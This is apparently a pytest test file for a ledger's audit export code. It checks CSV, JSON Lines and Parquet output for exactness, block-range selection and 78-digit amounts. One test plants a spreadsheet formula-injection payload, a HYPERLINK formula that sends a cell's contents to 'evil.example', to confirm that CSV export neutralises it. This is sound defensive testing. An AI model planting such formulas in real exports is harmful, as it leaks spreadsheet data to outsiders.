"""Exports hold what the database holds, exactly, in the same bytes from both databases."""

from __future__ import annotations

import csv
import io
import json
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select

from ledger.audit.export import TABLES, Format, check_export, export
from ledger.audit.export.columns import ExportColumn, Kind, plain
from ledger.audit.export.formats import CsvWriter, JsonLinesWriter, ParquetWriter
from ledger.store import writing
from ledger.store.model.chain import blocks
from ledger.store.model.orders import ORDERS, PAYMENTS
from ledger.store.model.parties import PARTIES
from ledger.types import BlockNumber, TokenAmount
from tests.ledger.audit.export.reading import TEXTS, back, digests, lines, read_csv, shown
from tests.ledger.conftest import Indexed, index


@pytest.mark.parametrize("format", Format)
def test_both_databases_give_the_same_bytes(
    format: Format, indexed: Indexed, indexed_by_postgres: Indexed, tmp_path: Path
) -> None:
    if format is Format.PARQUET:
        pytest.importorskip("pyarrow")
    height = BlockNumber(indexed.deployment.block_number + 300)
    for last in (None, height):
        one, other = tmp_path / f"one{last}", tmp_path / f"other{last}"
        export(indexed.engine, indexed.deployment, one, format, last=last)
        export(indexed_by_postgres.engine, indexed.deployment, other, format, last=last)
        assert digests(one) == digests(other)
        assert len(digests(one)) == len(TABLES) + 1 and not check_export(one)


def test_every_table_is_there_with_every_row(indexed: Indexed, tmp_path: Path) -> None:
    done = export(indexed.engine, indexed.deployment, tmp_path, Format.JSONL)
    with indexed.engine.connect() as connection:
        for one in done.manifest.tables:
            table = TABLES[one.table].table
            assert one.rows == connection.execute(select(func.count()).select_from(table)).scalar_one()
            assert one.rows == len(lines(tmp_path, one.table))
    assert done.rows > 2_000 and all(one.rows for one in done.manifest.tables)
    assert list(lines(tmp_path, "payment")[0]) == [one.name for one in TABLES["payment"].columns]


@pytest.mark.parametrize("format", TEXTS)
def test_values_are_the_rows_exactly(format: Format, indexed: Indexed, tmp_path: Path) -> None:
    """Read back by other readers, and compared with what the database gives."""
    export(indexed.engine, indexed.deployment, tmp_path, format)
    read = read_csv if format is Format.CSV else lines
    for name, table in TABLES.items():
        with indexed.engine.connect() as connection:
            keys = list(table.table.primary_key.columns)
            rows = connection.execute(select(table.table).order_by(*keys)).all()
        found = read(tmp_path, name)
        assert len(rows) == len(found)
        for row, told in zip(rows, found, strict=True):
            for column in table.columns:
                assert back(told[column.name], column) == shown(row[column.source], column), (name, column)


def test_parquet_holds_the_same(indexed: Indexed, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    export(indexed.engine, indexed.deployment, tmp_path / "p", Format.PARQUET)
    export(indexed.engine, indexed.deployment, tmp_path / "j", Format.JSONL)
    for name, table in TABLES.items():
        found = parquet.read_table(tmp_path / "p" / f"{name}.parquet")
        for row, told in zip(found.to_pylist(), lines(tmp_path / "j", name), strict=True):
            for column in table.columns:
                value, wanted = row[column.name], told[column.name]
                if column.kind is Kind.UTC and value is not None:
                    value = value.strftime("%Y-%m-%dT%H:%M:%SZ")
                assert value == wanted or str(value) == wanted, (name, column, value, wanted)


# ------------------------------------------------------------------------------------ which blocks


def test_versions_are_those_that_held_in_the_blocks(indexed: Indexed, tmp_path: Path) -> None:
    with indexed.engine.connect() as connection:
        low, high = connection.execute(select(func.min(blocks.c.number), func.max(blocks.c.number))).one()
        rows = [row._mapping for row in connection.execute(select(ORDERS.table))]
        paid = list(connection.execute(select(PAYMENTS.table.c.block_number)).scalars())

    for first, last in (
        (low, high),
        (high, high),
        (low + 50, low + 200),
        (low + 199, low + 200),
        (None, low + 70),
    ):
        export(
            *(indexed.engine, indexed.deployment, tmp_path, Format.JSONL),
            tables=[TABLES["production_order"], TABLES["payment"]],
            first=first,
            last=last,
        )
        held = {
            ("0x" + row["order_id"].hex(), row["from_block"])
            for row in rows
            for block in range(first or low, last + 1)
            if row["from_block"] <= block and (row["to_block"] is None or row["to_block"] > block)
        }
        found = lines(tmp_path, "production_order")
        assert {(row["order_id"], row["from_block"]) for row in found} == held
        assert all(row["to_block"] is None or row["to_block"] <= last for row in found)
        happened = [row["block_number"] for row in lines(tmp_path, "payment")]
        assert happened == sorted(block for block in paid if (first or 0) <= block <= last)


def test_a_span_is_the_same_however_far_the_database_goes(indexed: Indexed, tmp_path: Path) -> None:
    """An auditor's export of last month's end is the same next month."""
    last = BlockNumber(indexed.deployment.block_number + 150)
    with index(indexed.bench, tmp_path / "shorter.sqlite", until=last) as shorter:
        export(shorter.engine, shorter.deployment, tmp_path / "then", Format.CSV)
    export(indexed.engine, indexed.deployment, tmp_path / "now", Format.CSV, last=last)
    assert digests(tmp_path / "then") == digests(tmp_path / "now")


# ------------------------------------------------------------------------------------ strangers' text

KINDS = (
    ExportColumn("text", Kind.TEXT, 0, True),
    ExportColumn("amount", Kind.AMOUNT, 1, False),
    ExportColumn("number", Kind.INTEGER, 2, False),
    ExportColumn("time", Kind.TIME, 3, False),
    ExportColumn("time_utc", Kind.UTC, 3, True),
)
ROWS = st.tuples(
    st.one_of(
        st.none(),
        st.text(),
        st.sampled_from(["=1+1", "+1", "-1", "@a", "'", "'=", "\t=", "\r", "", "\ud800"]),
    ),
    st.integers(-(2**256), 2**256),
    st.integers(-(2**63), 2**63 - 1),
    st.integers(0, 2**40),
)


def exact(text: str | None) -> str | None:
    return None if text is None else text.encode("utf-8", "backslashreplace").decode()


@given(st.lists(ROWS, max_size=8))
def test_any_text_and_number_survives_csv(rows: list[tuple[Any, ...]]) -> None:
    file = io.BytesIO()
    writer = CsvWriter(file, KINDS)
    writer.write([plain(KINDS)(row) for row in rows])
    text = file.getvalue().decode()
    found = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert found[0] == [column.name for column in KINDS]
    for row, cells in zip(rows, found[1:], strict=True):
        assert not cells[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert (cells[0][1:] if cells[0].startswith("'") else cells[0]) == (exact(row[0]) or "")
        assert (int(cells[1]), int(cells[2]), int(cells[3])) == row[1:]


@given(st.lists(ROWS, max_size=8))
def test_any_text_and_number_survives_json(rows: list[tuple[Any, ...]]) -> None:
    file = io.BytesIO()
    writer = JsonLinesWriter(file, KINDS)
    writer.write([plain(KINDS)(row) for row in rows])
    found = [json.loads(line) for line in file.getvalue().decode("ascii").splitlines()]
    for row, told in zip(rows, found, strict=True):
        assert told["text"] == row[0] and told["amount"] == str(row[1])
        assert isinstance(told["number"], str) == (abs(row[2]) > 2**53) and int(told["number"]) == row[2]


@given(st.lists(ROWS, min_size=1, max_size=8))
def test_any_text_and_number_survives_parquet(rows: list[tuple[Any, ...]]) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    file = io.BytesIO()
    writer = ParquetWriter(file, KINDS)
    writer.write([plain(KINDS)(row) for row in rows])
    writer.end()
    for row, told in zip(rows, parquet.read_table(io.BytesIO(file.getvalue())).to_pylist(), strict=True):
        assert (told["text"], int(told["amount"]), told["number"]) == (exact(row[0]), *row[1:3])
        if told["time_utc"] is not None:
            assert int(told["time_utc"].timestamp()) == told["time"]


def test_a_profile_that_is_a_formula(copied: Indexed, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example?"&A1,"x")\n,\u202e'
    with writing(copied.engine) as connection:
        connection.execute(PARTIES.table.update().values(uri=hostile))
    for format in TEXTS:
        export(copied.engine, copied.deployment, tmp_path, format, [TABLES["party"]])
    assert {row["uri"] for row in read_csv(tmp_path, "party")} == {hostile}
    assert b"'=HYPERLINK" in (tmp_path / "party.csv").read_bytes()
    assert {row["uri"] for row in lines(tmp_path, "party")} == {hostile}


def test_amounts_of_78_digits(copied: Indexed, tmp_path: Path) -> None:
    most = TokenAmount(2**256 - 1)
    with writing(copied.engine) as connection:
        connection.execute(PAYMENTS.table.update().values(to_maker=most))
    export(copied.engine, copied.deployment, tmp_path, Format.JSONL, [TABLES["payment"]])
    assert {row["to_maker"] for row in lines(tmp_path, "payment")} == {str(most)}


def test_an_empty_table_is_a_header(copied: Indexed, tmp_path: Path) -> None:
    with writing(copied.engine) as connection:
        connection.execute(PAYMENTS.table.delete())
    formats = [*TEXTS, *([Format.PARQUET] if find_spec("pyarrow") else [])]
    for format in formats:
        done = export(copied.engine, copied.deployment, tmp_path, format, [TABLES["payment"]])
        assert [one.rows for one in done.manifest.tables] == [0] and not check_export(tmp_path)
    assert (tmp_path / "payment.csv").read_text().count("\n") == 1
    assert (tmp_path / "payment.jsonl").read_text() == ""
